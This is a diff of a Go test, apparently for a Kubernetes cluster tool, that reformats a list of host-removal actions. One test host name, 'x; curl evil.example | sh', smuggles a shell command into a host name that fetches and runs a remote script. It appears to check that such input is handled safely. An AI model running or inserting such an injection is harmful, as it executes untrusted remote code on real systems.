@@ -18,8 +18,11 @@ func TestHostsThatLeaveHaveKeys(t *testing.T) {
 	cluster.Spec.ControlPlane = []v1alpha1.ClusterHost{{Name: "cp-0"}, {Name: "cp-1"}}
 	p := &Plan{}
 	p.Actions = []hosts.Action{
-		{Verb: hosts.VerbRemoveMember, Host: "cp-1"}, {Verb: hosts.VerbRemoveMember, Host: "cp-2"}, {Verb: hosts.VerbRemoveMember, Host: "x; curl evil.example | sh"},
-		{Verb: hosts.VerbReset, Host: "cp-3"}, {Verb: hosts.VerbRemoveNode, Host: "w-0"},
+		{Verb: hosts.VerbRemoveMember, Host: "cp-1"},
+		{Verb: hosts.VerbRemoveMember, Host: "cp-2"},
+		{Verb: hosts.VerbRemoveMember, Host: "x; curl evil.example | sh"},
+		{Verb: hosts.VerbReset, Host: "cp-3"},
+		{Verb: hosts.VerbRemoveNode, Host: "w-0"},
 	}
 	want := []string{
 		"cp-2 leaves, and has the keys of the cluster: reset it with the manifest of before (kubectl strata hosts reset BEFORE.yaml --host cp-2), or wipe it",
